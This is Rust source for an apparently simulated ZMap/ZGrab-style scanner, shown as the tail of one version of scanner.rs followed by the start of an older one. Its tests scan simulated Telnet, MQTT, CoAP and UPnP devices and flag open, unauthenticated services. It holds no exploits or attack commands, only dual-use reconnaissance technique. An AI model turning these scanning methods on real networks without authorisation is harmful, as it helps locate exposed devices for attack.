                            base: u32::from(sweep.cfg.base),
                            probed: BitSet::new(sweep.cfg.targets.domain(sweep.cfg.size)),
                            targets: sweep.cfg.targets.clone(),
                        },
                    )
                    .is_some()
                {
                    // Two sweeps share a UDP port: fall back to exact
                    // bookkeeping.
                    return UdpTracker::Shared(FastMap::default());
                }
            }
        }
        UdpTracker::ByPort(by_port)
    }

    fn mark_udp_probe(&mut self, addr: Ipv4Addr, port: u16, sweep: usize) {
        match &mut self.udp_track {
            UdpTracker::ByPort(map) => {
                if let Some(t) = map.get_mut(&port) {
                    let rel = u32::from(addr).wrapping_sub(t.base);
                    if let Some(pos) = t.targets.position_of(rel) {
                        t.probed.set(pos);
                    }
                }
            }
            UdpTracker::Shared(map) => {
                map.insert((addr, port), sweep);
            }
        }
    }

    fn udp_response_sweep(&self, addr: Ipv4Addr, port: u16) -> Option<usize> {
        match &self.udp_track {
            UdpTracker::ByPort(map) => {
                let t = map.get(&port)?;
                let rel = u32::from(addr).wrapping_sub(t.base);
                let pos = t.targets.position_of(rel)?;
                t.probed.get(pos).then_some(t.sweep)
            }
            UdpTracker::Shared(map) => map.get(&(addr, port)).copied(),
        }
    }

    /// Whether every sweep has issued all its probes. (Responses may still
    /// be in flight for one grab window.)
    pub fn all_probes_sent(&self) -> bool {
        self.active_sweeps == 0
    }

    /// Total probes issued so far.
    pub fn probes_sent(&self) -> u64 {
        self.sweeps.iter().map(|s| s.probes_sent).sum()
    }

    /// Conservatively estimate when a sweep's probing finishes. Sharded
    /// sweeps issue probes only for their owned addresses, so the schedule
    /// shrinks proportionally (the exact owned count is used, keeping the
    /// bound safe for uneven hash splits).
    pub fn estimated_end(cfg: &ScannerConfig) -> SimTime {
        let probes = cfg.target_count() * cfg.ports.len() as u64;
        let ticks = probes / cfg.batch as u64 + 2;
        cfg.start_at + cfg.tick.mul(ticks) + cfg.grab_window + SimDuration::from_secs(10)
    }

    fn next_target(&mut self, sweep_idx: usize) -> Option<(Ipv4Addr, u16)> {
        loop {
            let sweep = &mut self.sweeps[sweep_idx];
            if let Some(t) = sweep.pending_ports.pop() {
                return Some(t);
            }
            let pos = sweep.perm.next()?;
            let Some(rel) = sweep.cfg.targets.offset_at(pos) else {
                continue;
            };
            let addr = Ipv4Addr::from(u32::from(sweep.cfg.base).wrapping_add(rel));
            // Shard filter first: the sampling RNG must only be consulted
            // for owned addresses, so each shard's draw sequence is a pure
            // function of its own targets.
            if !sweep.cfg.shard.owns(addr) {
                continue;
            }
            if sweep.cfg.blocklist.contains(addr) {
                continue;
            }
            if sweep.cfg.sample_rate < 1.0 && !self.rng.gen_bool(sweep.cfg.sample_rate) {
                continue;
            }
            let sweep = &mut self.sweeps[sweep_idx];
            for &port in sweep.cfg.ports.iter().rev() {
                sweep.pending_ports.push((addr, port));
            }
        }
    }

    fn issue_batch(&mut self, ctx: &mut NetCtx<'_>, sweep_idx: usize) {
        let (protocol, batch, is_udp) = {
            let cfg = &self.sweeps[sweep_idx].cfg;
            (cfg.protocol, cfg.batch, cfg.protocol.is_udp())
        };
        // Counted once per batch, not per probe — issue_batch is the
        // scanner's hottest loop.
        let before = self.sweeps[sweep_idx].probes_sent;
        for _ in 0..batch {
            let Some((addr, port)) = self.next_target(sweep_idx) else {
                if !self.sweeps[sweep_idx].exhausted {
                    self.sweeps[sweep_idx].exhausted = true;
                    self.active_sweeps -= 1;
                }
                let sent = self.sweeps[sweep_idx].probes_sent - before;
                if sent > 0 {
                    ofh_obs::count_l("scan.probe.sent", protocol.name(), sent);
                }
                return;
            };
            self.sweeps[sweep_idx].probes_sent += 1;
            let dst = SockAddr::new(addr, port);
            if is_udp {
                let mid = self.message_id;
                self.message_id = self.message_id.wrapping_add(1).max(1);
                if let Some(payload) = self.templates.udp_probe(protocol, mid) {
                    self.mark_udp_probe(addr, port, sweep_idx);
                    ctx.udp_send(40_000, dst, payload);
                }
            } else {
                // The sweep index rides on the connection as a tag; the grab
                // record is created only if the host answers — probes into
                // empty space leave no scanner-side state at all.
                ctx.tcp_connect_tagged(dst, sweep_idx as u64);
            }
        }
        ofh_obs::count_l("scan.probe.sent", protocol.name(), batch as u64);
    }

    /// Park a retry connect for `attempt` (1-based) against a target that
    /// already proved responsive, after the policy's backoff plus jitter.
    fn schedule_retry(
        &mut self,
        ctx: &mut NetCtx<'_>,
        sweep: usize,
        addr: Ipv4Addr,
        port: u16,
        attempt: u8,
    ) {
        let shift = u32::from(attempt.saturating_sub(1)).min(16);
        let backoff = self
            .retry
            .base_ms
            .saturating_mul(1 << shift)
            .min(self.retry.cap_ms);
        let jitter = if self.retry.jitter_ms > 0 {
            self.retry_rng.gen_range(0..=self.retry.jitter_ms)
        } else {
            0
        };
        let id = self.next_retry_id;
        self.next_retry_id += 1;
        self.retries.insert(
            id,
            RetryEntry {
                sweep: sweep as u32,
                addr,
                port,
                attempt,
            },
        );
        ctx.set_timer(SimDuration::from_millis(backoff + jitter), RETRY_BIT | id);
    }

    /// A connect that was itself a retry failed (refused / timed out /
    /// rate-limited). First-attempt failures never reach here: they carry
    /// attempt 0 and stay stateless, exactly like ZMap.
    fn retry_connect_failure(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
        let Some(tag) = ctx.conn_tag(conn) else {
            return;
        };
        let attempt = (tag >> TAG_ATTEMPT_SHIFT) as u8;
        if attempt == 0 {
            return;
        }
        let Some(peer) = ctx.conn_peer(conn) else {
            return;
        };
        if u32::from(attempt) < self.retry.attempts {
            let sweep = (tag & 0xFFFF_FFFF) as usize;
            self.schedule_retry(ctx, sweep, peer.addr, peer.port, attempt + 1);
        }
    }

    fn finalize(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, close: bool) {
        let Some(grab) = self.grabs.remove(&conn) else {
            return;
        };
        if grab.attempt > 0 {
            self.resilience.retries_recovered += 1;
        }
        let protocol = self.sweeps[grab.sweep].cfg.protocol;
        ofh_obs::count_l("scan.response.recorded", protocol.name(), 1);
        ofh_obs::observe_l("scan.response_bytes", protocol.name(), grab.buf.len() as u64);
        ofh_obs::span(
            "scan.grab",
            protocol.name(),
            ctx.now().0,
            ctx.now().0,
            u32::from(ctx.my_addr()),
            u32::from(grab.addr),
            grab.port,
            grab.buf.len() as u32,
        );
        // Empty buffer = responsive host with no banner: still recorded,
        // with an empty response (the port is provably open).
        let response = probe::normalize_response(protocol, &grab.buf);
        self.results.insert(HostRecord {
            addr: grab.addr,
            port: grab.port,
            protocol,
            response,
            raw: grab.buf,
        });
        if close {
            ctx.tcp_close(conn);
        }
    }
}

impl Agent for Scanner {
    fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
        ctx.set_initial_ttl(64);
        // ZMap's characteristic large SYN window (the telescope's
        // is_masscan heuristic keys off scanner windows).
        ctx.set_syn_window(65_535);
        let now = ctx.now();
        for (i, sweep) in self.sweeps.iter().enumerate() {
            let delay = sweep.cfg.start_at.since(now);
            ctx.set_timer(delay, i as u64);
        }
    }

    fn on_timer(&mut self, ctx: &mut NetCtx<'_>, token: u64) {
        if token & DEADLINE_BIT != 0 {
            let conn = ConnToken(token & !DEADLINE_BIT);
            self.finalize(ctx, conn, true);
            return;
        }
        if token & RETRY_BIT != 0 {
            let Some(e) = self.retries.remove(&(token & !RETRY_BIT)) else {
                return;
            };
            self.resilience.retries_issued += 1;
            let tag = u64::from(e.sweep) | (u64::from(e.attempt) << TAG_ATTEMPT_SHIFT);
            ctx.tcp_connect_tagged(SockAddr::new(e.addr, e.port), tag);
            return;
        }
        let sweep_idx = token as usize;
        self.issue_batch(ctx, sweep_idx);
        if !self.sweeps[sweep_idx].exhausted {
            let tick = self.sweeps[sweep_idx].cfg.tick;
            ctx.set_timer(tick, token);
        }
    }

    fn on_tcp_established(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
        // Recover the probe context from the connection itself (sweep and
        // attempt from the tag, target from the peer) — a responsive host is
        // the rare case, so this is where the grab record is created.
        let Some(tag) = ctx.conn_tag(conn) else {
            return;
        };
        let sweep_idx = (tag & 0xFFFF_FFFF) as usize;
        let attempt = (tag >> TAG_ATTEMPT_SHIFT) as u8;
        let Some(peer) = ctx.conn_peer(conn) else {
            return;
        };
        debug_assert!(conn.0 & DEADLINE_BIT == 0, "conn id collides with deadline bit");
        self.grabs.insert(
            conn,
            Grab {
                sweep: sweep_idx,
                addr: peer.addr,
                port: peer.port,
                buf: Vec::new(),
                followed_up: false,
                attempt,
            },
        );
        let cfg = &self.sweeps[sweep_idx].cfg;
        let (protocol, window) = (cfg.protocol, cfg.grab_window);
        if let Some(opening) = self.templates.tcp_opening(protocol) {
            ctx.tcp_send(conn, opening);
        }
        ctx.set_timer(window, DEADLINE_BIT | conn.0);
    }

    fn on_tcp_data(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, data: &Payload) {
        let Some(grab) = self.grabs.get_mut(&conn) else {
            return;
        };
        let first_chunk = grab.buf.is_empty();
        grab.buf.extend_from_slice(data);
        let protocol = self.sweeps[grab.sweep].cfg.protocol;
        if first_chunk && !grab.followed_up {
            if let Some(followup) = probe::tcp_followup(protocol, data) {
                grab.followed_up = true;
                ctx.tcp_send(conn, followup);
            }
        }
    }

    // First-attempt refused / timed-out probes carry no scanner-side state
    // (the grab is only created on establishment); only connects that were
    // themselves retries are followed up.

    fn on_tcp_refused(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
        self.retry_connect_failure(ctx, conn);
    }

    fn on_tcp_timeout(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
        self.retry_connect_failure(ctx, conn);
    }

    fn on_tcp_closed(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
        // Peer closed first: record what we have.
        self.finalize(ctx, conn, false);
    }

    fn on_tcp_reset(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
        // The network tore the grab down mid-flight (injected reset or
        // blackout). The host already proved responsive, so unlike a lost
        // SYN this is a loss worth recovering: reconnect after backoff.
        let Some(grab) = self.grabs.remove(&conn) else {
            return;
        };
        if grab.attempt == 0 {
            self.resilience.first_attempt_losses += 1;
        }
        if u32::from(grab.attempt) < self.retry.attempts {
            self.schedule_retry(ctx, grab.sweep, grab.addr, grab.port, grab.attempt + 1);
        }
    }

    fn on_udp(&mut self, ctx: &mut NetCtx<'_>, _local_port: u16, peer: SockAddr, payload: &Payload) {
        let Some(sweep_idx) = self.udp_response_sweep(peer.addr, peer.port) else {
            return;
        };
        let protocol = self.sweeps[sweep_idx].cfg.protocol;
        ofh_obs::count_l("scan.response.recorded", protocol.name(), 1);
        ofh_obs::observe_l("scan.response_bytes", protocol.name(), payload.len() as u64);
        ofh_obs::span(
            "scan.grab",
            protocol.name(),
            ctx.now().0,
            ctx.now().0,
            u32::from(ctx.my_addr()),
            u32::from(peer.addr),
            peer.port,
            payload.len() as u32,
        );
        let response = probe::normalize_response(protocol, payload);
        self.results.insert(HostRecord {
            addr: peer.addr,
            port: peer.port,
            protocol,
            response,
            raw: payload.to_vec(),
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ofh_devices::endpoints::{CoapDevice, MqttDevice, TelnetDevice, UpnpDevice};
    use ofh_devices::Misconfig;
    use ofh_net::{ip, SimNet, SimNetConfig};
    use ofh_wire::ssdp::DeviceDescription;

    fn scan_one(
        protocol: Protocol,
        attach: impl FnOnce(&mut SimNet),
    ) -> ScanResults {
        let mut net = SimNet::new(SimNetConfig::default());
        attach(&mut net);
        let cfg = ScannerConfig {
            batch: 64,
            ..ScannerConfig::full(protocol, ip(16, 4, 0, 0), 256, SimTime::ZERO, 1)
        };
        let end = Scanner::estimated_end(&cfg);
        let sid = net.attach(ip(16, 3, 0, 1), Box::new(Scanner::new("ZMap Scan", vec![cfg])));
        net.run_until(end);
        net.agent_downcast_mut::<Scanner>(sid).unwrap().results.clone()
    }

    #[test]
    fn telnet_sweep_finds_and_classifies() {
        let results = scan_one(Protocol::Telnet, |net| {
            net.attach(
                ip(16, 4, 0, 10),
                Box::new(TelnetDevice::new("PK5001Z login:", Some(Misconfig::TelnetNoAuthRoot), 23)),
            );
            net.attach(
                ip(16, 4, 0, 20),
                Box::new(TelnetDevice::new("192.168.0.64 login:", None, 23)),
            );
            net.attach(
                ip(16, 4, 0, 30),
                Box::new(TelnetDevice::new("BusyBox", Some(Misconfig::TelnetNoAuth), 2323)),
            );
        });
        assert_eq!(results.exposed_hosts(Protocol::Telnet), 3);
        assert_eq!(
            results.misconfigured_addrs(Misconfig::TelnetNoAuthRoot).len(),
            1
        );
        // The 2323-only device was found thanks to the extra port.
        assert!(results
            .misconfigured_addrs(Misconfig::TelnetNoAuth)
            .contains(&ip(16, 4, 0, 30)));
        // Device tagging works on the scan output.
        let rec = results.records.get(&(ip(16, 4, 0, 20), 23)).unwrap();
        assert_eq!(rec.device().unwrap().name, "HiKVision Camera");
    }

    #[test]
    fn mqtt_sweep_grabs_connack_and_topics() {
        let results = scan_one(Protocol::Mqtt, |net| {
            net.attach(
                ip(16, 4, 0, 40),
                Box::new(MqttDevice::new(
                    Some(Misconfig::MqttNoAuth),
                    vec![("homeassistant/light/k".into(), b"on".to_vec())],
                )),
            );
            net.attach(ip(16, 4, 0, 50), Box::new(MqttDevice::new(None, vec![])));
        });
        assert_eq!(results.exposed_hosts(Protocol::Mqtt), 2);
        let open = results.records.get(&(ip(16, 4, 0, 40), 1883)).unwrap();
        assert!(open.response.contains("MQTT Connection Code:0"));
        assert!(open.response.contains("topic: homeassistant/light/k"));
        assert_eq!(open.misconfig(), Some(Misconfig::MqttNoAuth));
        let closed = results.records.get(&(ip(16, 4, 0, 50), 1883)).unwrap();
        assert_eq!(closed.misconfig(), None);
    }

    #[test]
    fn coap_sweep_is_response_based() {
        let results = scan_one(Protocol::Coap, |net| {
            net.attach(
                ip(16, 4, 0, 60),
                Box::new(CoapDevice::new(
                    Some(Misconfig::CoapReflection),
                    vec![ofh_wire::coap::LinkEntry {
                        path: "/ndm/login".into(),
                        attrs: vec![],
                    }],
                )),
            );
            net.attach(ip(16, 4, 0, 61), Box::new(CoapDevice::new(None, vec![])));
        });
        assert_eq!(results.exposed_hosts(Protocol::Coap), 2);
        let reflect = results.records.get(&(ip(16, 4, 0, 60), 5683)).unwrap();
        assert_eq!(reflect.misconfig(), Some(Misconfig::CoapReflection));
        assert_eq!(reflect.device().unwrap().name, "NDM");
        let safe = results.records.get(&(ip(16, 4, 0, 61), 5683)).unwrap();
        assert_eq!(safe.misconfig(), None);
    }

    #[test]
    fn upnp_sweep_discovers_rootdevices() {
        let results = scan_one(Protocol::Upnp, |net| {
            net.attach(
                ip(16, 4, 0, 70),
                Box::new(UpnpDevice::new(
                    Some(Misconfig::UpnpReflection),
                    "Linux/2.x UPnP/1.0 Avtech/1.0",
                    DeviceDescription::default(),
                )),
            );
        });
        let rec = results.records.get(&(ip(16, 4, 0, 70), 1900)).unwrap();
        assert_eq!(rec.misconfig(), Some(Misconfig::UpnpReflection));
        assert_eq!(rec.device().unwrap().name, "Avtech AVN801");
    }

    #[test]
    fn blocklist_is_honoured() {
        let mut net = SimNet::new(SimNetConfig::default());
        net.attach(
            ip(16, 4, 0, 10),
            Box::new(TelnetDevice::new("x", Some(Misconfig::TelnetNoAuth), 23)),
        );
        let mut cfg = ScannerConfig::full(Protocol::Telnet, ip(16, 4, 0, 0), 256, SimTime::ZERO, 1);
        cfg.blocklist.insert("16.4.0.0/24".parse().unwrap());
        let end = Scanner::estimated_end(&cfg);
        let sid = net.attach(ip(16, 3, 0, 1), Box::new(Scanner::new("ZMap Scan", vec![cfg])));
        net.run_until(end);
        let s = net.agent_downcast::<Scanner>(sid).unwrap();
        assert!(s.results.is_empty());
        assert!(s.all_probes_sent());
        assert_eq!(s.probes_sent(), 0);
    }

    #[test]
    fn sampling_reduces_coverage_deterministically() {
        let run = || {
            let mut net = SimNet::new(SimNetConfig::default());
            for i in 0..64u32 {
                net.attach(
                    Ipv4Addr::from(u32::from(ip(16, 4, 0, 0)) + i),
                    Box::new(TelnetDevice::new("x", Some(Misconfig::TelnetNoAuth), 23)),
                );
            }
            let cfg = ScannerConfig {
                sample_rate: 0.5,
                ports: vec![23],
                ..ScannerConfig::full(Protocol::Telnet, ip(16, 4, 0, 0), 64, SimTime::ZERO, 9)
            };
            let end = Scanner::estimated_end(&cfg);
            let sid = net.attach(ip(16, 3, 0, 1), Box::new(Scanner::new("Shodan", vec![cfg])));
            net.run_until(end);
            net.agent_downcast::<Scanner>(sid).unwrap().results.len()
        };
        let a = run();
        let b = run();
        assert_eq!(a, b, "sampling must be deterministic");
        assert!(a > 16 && a < 48, "coverage {a} should be ~half");
    }

    #[test]
    fn resets_are_retried_and_recovered() {
        use ofh_net::{FaultPlan, FaultSchedule};
        let run = || {
            let mut net = SimNet::new(SimNetConfig {
                // Aggressive mid-grab resets: every grab is likely
                // interrupted at least once, so the retry path is exercised
                // heavily while two attempts still recover almost everything.
                faults: FaultSchedule::uniform(FaultPlan {
                    reset_chance: 0.3,
                    ..FaultPlan::NONE
                }),
                ..SimNetConfig::default()
            });
            for i in 0..24u32 {
                net.attach(
                    Ipv4Addr::from(u32::from(ip(16, 4, 0, 1)) + i),
                    Box::new(TelnetDevice::new("BusyBox login:", Some(Misconfig::TelnetNoAuth), 23)),
                );
            }
            let cfg = ScannerConfig {
                batch: 64,
                ports: vec![23],
                ..ScannerConfig::full(Protocol::Telnet, ip(16, 4, 0, 0), 256, SimTime::ZERO, 1)
            };
            let end = Scanner::estimated_end(&cfg) + SimDuration::from_secs(30);
            let sid = net.attach(ip(16, 3, 0, 1), Box::new(Scanner::new("ZMap Scan", vec![cfg])));
            net.run_until(end);
            let s = net.agent_downcast::<Scanner>(sid).unwrap();
            assert_eq!(s.leaked_state(), 0, "grabs or retries leaked");
            (s.resilience, s.results.len())
        };
        let (r, found) = run();
        assert!(r.first_attempt_losses > 0, "faults never bit: {r:?}");
        assert!(r.retries_issued > 0 && r.retries_recovered > 0, "{r:?}");
        assert!(r.retries_recovered <= r.retries_issued, "{r:?}");
        assert!(r.retries_recovered <= r.first_attempt_losses, "{r:?}");
        // Retries claw back most of the interrupted grabs.
        assert!(found > 12, "only {found}/24 hosts recorded: {r:?}");
        // And the whole faulty run is deterministic.
        assert_eq!(run(), (r, found));
    }

    #[test]
    fn indexed_sweep_probes_exactly_the_index() {
        // A sparse index over a huge nominal range: probe accounting must
        // track the index length, never the range size.
        let mut net = SimNet::new(SimNetConfig::default());
        net.attach(
            ip(16, 4, 0, 10),
            Box::new(TelnetDevice::new("BusyBox login:", Some(Misconfig::TelnetNoAuth), 23)),
        );
        let offsets: Vec<u32> = vec![10, 77, 500, 9_999, 4_000_000];
        let cfg = ScannerConfig {
            ports: vec![23],
            targets: TargetSpace::index(offsets.clone()),
            ..ScannerConfig::full(Protocol::Telnet, ip(16, 4, 0, 0), 1 << 31, SimTime::ZERO, 5)
        };
        assert_eq!(cfg.target_count(), offsets.len() as u64);
        let end = Scanner::estimated_end(&cfg);
        let sid = net.attach(ip(16, 3, 0, 1), Box::new(Scanner::new("ZMap Scan", vec![cfg])));
        net.run_until(end);
        let s = net.agent_downcast::<Scanner>(sid).unwrap();
        assert_eq!(s.probes_sent(), offsets.len() as u64);
        assert!(s.all_probes_sent());
        assert_eq!(s.results.exposed_hosts(Protocol::Telnet), 1);
        assert!(s.results.records.contains_key(&(ip(16, 4, 0, 10), 23)));
    }

    #[test]
    fn indexed_udp_sweep_attributes_responses() {
        // The UDP probed-set must work through the index mapping: a CoAP
        // response from an indexed address is attributed; the bitset is
        // domain-sized (5 bits here), not range-sized.
        let mut net = SimNet::new(SimNetConfig::default());
        net.attach(
            ip(16, 4, 0, 77),
            Box::new(CoapDevice::new(
                Some(Misconfig::CoapReflection),
                vec![ofh_wire::coap::LinkEntry {
                    path: "/ndm/login".into(),
                    attrs: vec![],
                }],
            )),
        );
        let cfg = ScannerConfig {
            targets: TargetSpace::index(vec![3, 77, 1_000, 65_536, 2_000_000]),
            ..ScannerConfig::full(Protocol::Coap, ip(16, 4, 0, 0), 1 << 31, SimTime::ZERO, 8)
        };
        let end = Scanner::estimated_end(&cfg);
        let sid = net.attach(ip(16, 3, 0, 1), Box::new(Scanner::new("ZMap Scan", vec![cfg])));
        net.run_until(end);
        let s = net.agent_downcast::<Scanner>(sid).unwrap();
        let rec = s.results.records.get(&(ip(16, 4, 0, 77), 5683)).unwrap();
        assert_eq!(rec.misconfig(), Some(Misconfig::CoapReflection));
    }

    #[test]
    fn indexed_and_range_sweeps_find_the_same_hosts() {
        // Over a small universe where both modes are feasible, an index
        // listing every offset is just a reordered full sweep: same hosts.
        let attach_hosts = |net: &mut SimNet| {
            for i in [9u32, 33, 200] {
                net.attach(
                    Ipv4Addr::from(u32::from(ip(16, 4, 0, 0)) + i),
                    Box::new(TelnetDevice::new("x", Some(Misconfig::TelnetNoAuth), 23)),
                );
            }
        };
        let run = |targets: TargetSpace| {
            let mut net = SimNet::new(SimNetConfig::default());
            attach_hosts(&mut net);
            let cfg = ScannerConfig {
                ports: vec![23],
                targets,
                ..ScannerConfig::full(Protocol::Telnet, ip(16, 4, 0, 0), 256, SimTime::ZERO, 3)
            };
            let end = Scanner::estimated_end(&cfg);
            let sid = net.attach(ip(16, 3, 0, 1), Box::new(Scanner::new("ZMap Scan", vec![cfg])));
            net.run_until(end);
            let s = net.agent_downcast::<Scanner>(sid).unwrap();
            let mut addrs: Vec<Ipv4Addr> =
                s.results.records.keys().map(|&(a, _)| a).collect();
            addrs.sort_unstable();
            addrs
        };
        let dense = run(TargetSpace::Range);
        let sparse = run(TargetSpace::index((0..256).collect()));
        assert_eq!(dense.len(), 3);
        assert_eq!(dense, sparse);
    }

    #[test]
    fn sweeps_cover_whole_space() {
        // No devices: just verify probe accounting over the permutation.
        let mut net = SimNet::new(SimNetConfig::default());
        let cfg = ScannerConfig {
            ports: vec![23, 2323],
            ..ScannerConfig::full(Protocol::Telnet, ip(16, 4, 0, 0), 512, SimTime::ZERO, 3)
        };
        let end = Scanner::estimated_end(&cfg);
        let sid = net.attach(ip(16, 3, 0, 1), Box::new(Scanner::new("ZMap Scan", vec![cfg])));
        net.run_until(end);
        let s = net.agent_downcast::<Scanner>(sid).unwrap();
        assert_eq!(s.probes_sent(), 512 * 2);
        assert!(s.all_probes_sent());
    }
}
