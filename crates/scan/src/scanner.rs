//! The scanning agent — ZMap's pacing and statelessness plus ZGrab's
//! application-layer grabs, as one event-driven state machine.
//!
//! A [`Scanner`] runs one or more **sweeps**. Each sweep iterates a
//! pseudorandom permutation of the target space (see [`crate::iterator`]),
//! paced in batches per timer tick, probing every configured port:
//!
//! * **TCP protocols** (banner-based, Table 2): SYN → on accept, optionally
//!   send the protocol's opening probe → collect response bytes for a grab
//!   window → normalize and record;
//! * **UDP protocols** (response-based, Table 3): send the probe datagram;
//!   any response is normalized and recorded.
//!
//! Sweeps honour a CIDR blocklist (ZMap default + FireHOL, §3.1.1) and an
//! optional per-address sampling rate (used by the Sonar/Shodan coverage
//! models in [`crate::datasets`]).

use std::net::Ipv4Addr;

use ofh_net::Payload;
use ofh_net::{
    Agent, CidrSet, ConnToken, FastMap, NetCtx, ShardSpec, SimDuration, SimTime, SockAddr,
};
use ofh_wire::Protocol;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

use crate::bitset::BitSet;
use crate::iterator::AddressPermutation;
use crate::probe;
use crate::results::{HostRecord, ScanResults};

/// Configuration of one sweep.
#[derive(Debug, Clone)]
pub struct ScannerConfig {
    pub protocol: Protocol,
    /// Ports to probe per address (e.g. Telnet: [23, 2323]).
    pub ports: Vec<u16>,
    /// First address of the target space.
    pub base: Ipv4Addr,
    /// Number of addresses to cover.
    pub size: u64,
    /// When the sweep starts (Table 9 schedule).
    pub start_at: SimTime,
    /// Probes (address × port) issued per tick.
    pub batch: u32,
    /// Tick interval.
    pub tick: SimDuration,
    /// How long to collect response bytes per TCP grab.
    pub grab_window: SimDuration,
    /// Addresses never probed.
    pub blocklist: CidrSet,
    /// Probability of probing each address (1.0 = full coverage).
    pub sample_rate: f64,
    /// Permutation seed.
    pub seed: u64,
    /// Which slice of the address space this sweep probes. The sweep walks
    /// the full permutation but only issues probes for addresses the shard
    /// owns; `ShardSpec::WHOLE` (the default) probes everything.
    pub shard: ShardSpec,
}

impl ScannerConfig {
    /// A full-coverage sweep with paper-faithful ports for `protocol`.
    pub fn full(protocol: Protocol, base: Ipv4Addr, size: u64, start_at: SimTime, seed: u64) -> Self {
        let mut ports = vec![protocol.port()];
        ports.extend_from_slice(protocol.extra_ports());
        ScannerConfig {
            protocol,
            ports,
            base,
            size,
            start_at,
            batch: 2_048,
            tick: SimDuration::from_millis(100),
            grab_window: SimDuration::from_millis(1_500),
            blocklist: CidrSet::new(),
            sample_rate: 1.0,
            seed,
            shard: ShardSpec::WHOLE,
        }
    }

    /// Addresses this sweep will actually consider probing — the shard's
    /// share of `size`. O(size) when sharded (one hash per address); used
    /// once per sweep to bound the schedule.
    pub fn target_count(&self) -> u64 {
        self.shard.owned_in(self.base, self.size)
    }
}

struct Sweep {
    cfg: ScannerConfig,
    perm: AddressPermutation,
    /// Pending ports for the current address (probed one per slot).
    pending_ports: Vec<(Ipv4Addr, u16)>,
    exhausted: bool,
    probes_sent: u64,
}

struct Grab {
    sweep: usize,
    addr: Ipv4Addr,
    port: u16,
    buf: Vec<u8>,
    followed_up: bool,
}

/// Remembers which addresses the scanner's UDP sweeps probed, so a response
/// can be attributed to its sweep (response-based protocols, Table 3).
enum UdpTracker {
    /// Every UDP port belongs to exactly one sweep (the normal case):
    /// port → (sweep, probed-offset bitset). Marking a probe is a bit set;
    /// no per-probe allocation or hashing of 1M+ map entries.
    ByPort(FastMap<u16, PortTracker>),
    /// Fallback when two sweeps share a UDP port: exact `(addr, port)`
    /// bookkeeping with latest-probe-wins attribution.
    Shared(FastMap<(Ipv4Addr, u16), usize>),
}

struct PortTracker {
    sweep: usize,
    base: u32,
    probed: BitSet,
}

/// The scanning agent. Attach at the scanning host's address, run the
/// network past the expected completion time, then read [`Scanner::results`].
pub struct Scanner {
    pub results: ScanResults,
    sweeps: Vec<Sweep>,
    /// Grabs in progress — created on `on_tcp_established`, so the table
    /// only ever holds responsive hosts, not the millions of probes into
    /// empty space.
    grabs: FastMap<ConnToken, Grab>,
    udp_track: UdpTracker,
    /// Probe payloads encoded once at construction; the per-address CoAP
    /// message id is patched into a pooled buffer (see
    /// [`probe::ProbeTemplates`]).
    templates: probe::ProbeTemplates,
    rng: StdRng,
    message_id: u16,
    active_sweeps: usize,
}

const DEADLINE_BIT: u64 = 1 << 63;

impl Scanner {
    pub fn new(source: impl Into<String>, configs: Vec<ScannerConfig>) -> Scanner {
        let seed = configs.first().map(|c| c.seed).unwrap_or(0);
        let active = configs.len();
        let sweeps: Vec<Sweep> = configs
            .into_iter()
            .map(|cfg| Sweep {
                perm: AddressPermutation::new(cfg.size, cfg.seed),
                cfg,
                pending_ports: Vec::new(),
                exhausted: false,
                probes_sent: 0,
            })
            .collect();
        let udp_track = Self::build_udp_tracker(&sweeps);
        Scanner {
            results: ScanResults::new(source),
            sweeps,
            grabs: FastMap::default(),
            udp_track,
            templates: probe::ProbeTemplates::new(),
            rng: StdRng::seed_from_u64(ofh_net::rng::derive_seed(seed, "scanner")),
            message_id: 1,
            active_sweeps: active,
        }
    }

    /// Port-indexed UDP probe tracking when ports are unambiguous, exact
    /// per-address map otherwise.
    fn build_udp_tracker(sweeps: &[Sweep]) -> UdpTracker {
        let mut by_port: FastMap<u16, PortTracker> = FastMap::default();
        for (idx, sweep) in sweeps.iter().enumerate() {
            if !sweep.cfg.protocol.is_udp() {
                continue;
            }
            for &port in &sweep.cfg.ports {
                if by_port
                    .insert(
                        port,
                        PortTracker {
                            sweep: idx,
                            base: u32::from(sweep.cfg.base),
                            probed: BitSet::new(sweep.cfg.size),
                        },
                    )
                    .is_some()
                {
                    // Two sweeps share a UDP port: fall back to exact
                    // bookkeeping.
                    return UdpTracker::Shared(FastMap::default());
                }
            }
        }
        UdpTracker::ByPort(by_port)
    }

    fn mark_udp_probe(&mut self, addr: Ipv4Addr, port: u16, sweep: usize) {
        match &mut self.udp_track {
            UdpTracker::ByPort(map) => {
                if let Some(t) = map.get_mut(&port) {
                    t.probed.set(u64::from(u32::from(addr).wrapping_sub(t.base)));
                }
            }
            UdpTracker::Shared(map) => {
                map.insert((addr, port), sweep);
            }
        }
    }

    fn udp_response_sweep(&self, addr: Ipv4Addr, port: u16) -> Option<usize> {
        match &self.udp_track {
            UdpTracker::ByPort(map) => {
                let t = map.get(&port)?;
                t.probed
                    .get(u64::from(u32::from(addr).wrapping_sub(t.base)))
                    .then_some(t.sweep)
            }
            UdpTracker::Shared(map) => map.get(&(addr, port)).copied(),
        }
    }

    /// Whether every sweep has issued all its probes. (Responses may still
    /// be in flight for one grab window.)
    pub fn all_probes_sent(&self) -> bool {
        self.active_sweeps == 0
    }

    /// Total probes issued so far.
    pub fn probes_sent(&self) -> u64 {
        self.sweeps.iter().map(|s| s.probes_sent).sum()
    }

    /// Conservatively estimate when a sweep's probing finishes. Sharded
    /// sweeps issue probes only for their owned addresses, so the schedule
    /// shrinks proportionally (the exact owned count is used, keeping the
    /// bound safe for uneven hash splits).
    pub fn estimated_end(cfg: &ScannerConfig) -> SimTime {
        let probes = cfg.target_count() * cfg.ports.len() as u64;
        let ticks = probes / cfg.batch as u64 + 2;
        cfg.start_at + cfg.tick.mul(ticks) + cfg.grab_window + SimDuration::from_secs(10)
    }

    fn next_target(&mut self, sweep_idx: usize) -> Option<(Ipv4Addr, u16)> {
        loop {
            let sweep = &mut self.sweeps[sweep_idx];
